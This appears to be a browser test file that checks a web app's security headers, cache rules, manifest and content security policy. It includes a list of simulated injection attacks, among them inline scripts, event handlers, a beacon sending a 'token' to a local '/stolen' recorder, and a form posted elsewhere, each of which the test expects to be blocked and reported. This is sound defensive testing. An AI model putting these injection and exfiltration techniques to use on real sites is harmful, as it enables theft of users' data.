/** The headers of the site: on every answer, and in force in the browser. */
import { readdirSync } from 'node:fs'
import { expect, inject } from 'vitest'
import { palette } from '../../build/brand/palette'
import { CACHE_CONTROL, SECURITY_HEADERS } from '../../deploy/securityHeaders'
import { recorder } from '../support/recorder'
import { takeViolations } from '../support/policy'
import { BRAND, SITE_NAME } from '../support/site'
import { siteStory, story } from '../support/stories'

const assets = () => readdirSync(`${inject('storyBuild')}/assets`).map((name) => `/assets/${name}`)

/** The content security policy as served, by directive. */
async function policyOf(url: string): Promise<Record<string, string>> {
  const { headers } = await fetch(url)
  const policy = headers.get('content-security-policy') ?? ''
  return Object.fromEntries(
    policy.split('; ').map((directive) => {
      const [name = '', ...sources] = directive.split(' ')
      return [name, sources.join(' ')]
    }),
  )
}

siteStory('every answer of the site has every security header, even a 404', async ({ app }) => {
  const paths = ['/', '/auth/callback?code=c', '/settings/security', ...assets(), '/assets/gone.js']
  for (const path of paths) {
    const { headers } = await fetch(app.url + path)
    for (const [name, value] of Object.entries(SECURITY_HEADERS))
      if (name !== 'Content-Security-Policy') expect([path, headers.get(name)]).toEqual([path, value])
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
  }
})

siteStory('the page is requested each time, a file with a hash in its name only once', async ({ app }) => {
  const cacheControl = async (path: string) => (await fetch(app.url + path)).headers.get('cache-control')
  for (const path of ['/', '/home', '/auth/callback'])
    expect(await cacheControl(path)).toBe(CACHE_CONTROL.page)
  for (const path of assets()) expect(await cacheControl(path)).toBe(CACHE_CONTROL.asset)
})

siteStory('name, icons, bar colours and manifest of the page are configured', async ({ page, app }) => {
  // A page of the same origin that fetches nothing that the next navigation could interrupt.
  const [style] = assets().filter((path) => path.endsWith('.css'))
  await page.goto(style ?? '')
  await page.evaluate(() => localStorage.setItem('gatehouse.theme', 'dark'))
  await page.goto('/auth/login')
  const { links, bars } = await page.evaluate(() => ({
    links: Object.fromEntries(
      Array.from(document.querySelectorAll('link'), ({ rel, href }): [string, string] => [rel, href]),
    ),
    // The first one whose condition holds counts (HTML §4.2.5.2).
    bars: Array.from(document.querySelectorAll<HTMLMetaElement>('meta[name=theme-color]')).find(
      ({ media }) => matchMedia(media).matches,
    )?.content,
  }))
  expect(bars).toBe(palette(BRAND, 'dark').paper)
  const answer = await fetch(links['manifest'] ?? '')
  const manifest: { name: string; icons: { src: string }[] } = JSON.parse(await answer.text())
  expect(manifest.name).toBe(SITE_NAME)
  const icons = manifest.icons.map(({ src }) => new URL(src, app.url).href)
  expect(icons).toEqual([links['icon'], links['apple-touch-icon']])
  for (const icon of icons) expect((await fetch(icon)).status).toBe(200)
})

siteStory('a missing file is answered with 404, never the page, and not to be cached', async ({ app }) => {
  const answer = await fetch(`${app.url}/assets/gone-1234abcd.js`)
  expect(answer.status).toBe(404)
  expect(await answer.text()).toBe('')
  expect(answer.headers.get('cache-control')).toBeNull()
})

story('the policy allows the page’s own files, and inline script and styles by hash', async ({ app }) => {
  const policy = await policyOf(app.url)
  const hash = String.raw` 'sha256-[\w+/]{43}='`
  expect(policy).toEqual({
    'default-src': "'none'",
    'script-src': expect.stringMatching(new RegExp(`^'self'(${hash})$`)),
    'style-src': expect.stringMatching(new RegExp(`^'self'(${hash})$`)),
    'img-src': "'self'",
    'font-src': "'self'",
    'manifest-src': "'self'",
    // The local pool and the sample API are on the page's own origin.
    'connect-src': "'self'",
    'form-action': "'none'",
    'base-uri': "'none'",
    'object-src': "'none'",
    'frame-ancestors': "'none'",
    'require-trusted-types-for': "'script'",
    'trusted-types': "'none'",
  })
})

/** What an attacker who can put something into the page would do, and the directive that prevents it. */
const ATTACKS: readonly (readonly [what: string, directive: string, attack: (elsewhere: string) => void])[] =
  [
    [
      'a script from elsewhere',
      // Firefox refuses it too, but does not report it.
      inject('engine') === 'firefox' ? '' : 'script-src-elem',
      (elsewhere) => add('link', { rel: 'modulepreload', href: `${elsewhere}.js` }),
    ],
    ['an inline script', 'require-trusted-types-for', () => add('script', { text: 'attack()' })],
    ['an event handler', 'require-trusted-types-for', () => add('b', { onclick: 'attack()' })],
    [
      'text run as a script',
      'require-trusted-types-for',
      () => Reflect.apply(setTimeout, null, ['attack()']),
    ],
    ['markup from text', 'require-trusted-types-for', () => add('b', { innerHTML: '<img src=x>' })],
    [
      'a policy that would make markup of text',
      'trusted-types',
      () => Reflect.get(window, 'trustedTypes').createPolicy('default', { createHTML: String }),
    ],
    ['a style element', 'style-src-elem', () => add('style', { textContent: '*{color:red}' })],
    ['a style attribute', 'style-src-attr', () => add('b', { style: 'color:red' })],
    [
      'styles from elsewhere',
      'style-src-elem',
      (elsewhere) => add('link', { rel: 'stylesheet', href: elsewhere }),
    ],
    ['a request elsewhere', 'connect-src', (elsewhere) => void fetch(elsewhere).catch(() => {})],
    ['a beacon elsewhere', 'connect-src', (elsewhere) => void navigator.sendBeacon(elsewhere, 'token')],
    ['a picture from elsewhere', 'img-src', (elsewhere) => add('img', { src: elsewhere })],
    ['a data: picture', 'img-src', () => add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })],
    ['a frame', 'frame-src', (elsewhere) => add('iframe', { src: elsewhere })],
    ['a form sent elsewhere', 'form-action', (elsewhere) => add('form', { action: elsewhere }).submit()],
    ['another base for addresses', 'base-uri', (elsewhere) => add('base', { href: elsewhere })],
  ]

/** Runs in the page: adds an element with these members or attributes. */
declare function add<Name extends keyof HTMLElementTagNameMap>(
  name: Name,
  members: Record<string, string>,
): HTMLElementTagNameMap[Name]

const defineAdd = () =>
  Object.assign(window, {
    add(name: string, members: Record<string, string>) {
      const element = document.createElement(name)
      document.body.append(element)
      for (const [member, value] of Object.entries(members))
        if (member === 'style' || member.startsWith('on')) element.setAttribute(member, value)
        else Reflect.set(element, member, value)
      return element
    },
  })

story('what an injected script or mark-up would do is refused and reported', async ({ page }) => {
  const elsewhere = await recorder()
  await page.goto('/auth/login')
  await page.getByLabel('E-mail').waitFor()
  await page.evaluate(defineAdd)
  for (const [what, directive, run] of ATTACKS) {
    await page.evaluate(run, `http://127.0.0.1:${elsewhere.port}/stolen`).catch(() => {})
    await expect.poll(() => takeViolations().join(), { message: what }).toContain(directive)
  }
  expect(elsewhere.arrivals).toEqual([])
  await elsewhere.stop()
  takeViolations()
})

story('no page may frame the app, not even one of its own origin', async ({ page, app }) => {
  // A page of the same origin without a policy, so that only the framed page's own policy can refuse.
  const body = `<iframe src="${app.url}/auth/login"></iframe>`
  await page.route('**/frame', (route) => route.fulfill({ contentType: 'text/html', body }))
  await page.goto('/frame')
  await expect.poll(() => takeViolations().join()).toContain('frame-ancestors')
  expect(await page.frameLocator('iframe').getByLabel('E-mail').count()).toBe(0)
  takeViolations()
})
